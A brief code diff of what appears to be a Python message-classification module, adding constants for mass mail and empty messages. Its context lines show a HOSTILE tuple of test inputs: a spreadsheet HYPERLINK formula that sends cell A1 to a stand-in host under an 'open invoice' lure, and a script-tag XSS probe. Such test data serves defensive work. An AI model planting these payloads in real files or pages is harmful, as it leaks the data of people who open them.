@@ -23,6 +23,10 @@ if TYPE_CHECKING:
 
 ACTS: Final = tuple(phrases_de.TEMPLATES)
 """What a message is for; the position in this tuple is the code used in columns."""
+CAMPAIGN: Final = -1
+"""Code of mass mail."""
+NOTHING: Final = -2
+"""Code of what says nothing."""
 HOSTILE: Final = (
     '=HYPERLINK("https://example.com/?leak="&A1,"Rechnung öffnen")',
     "<script>alert(1)</script>",
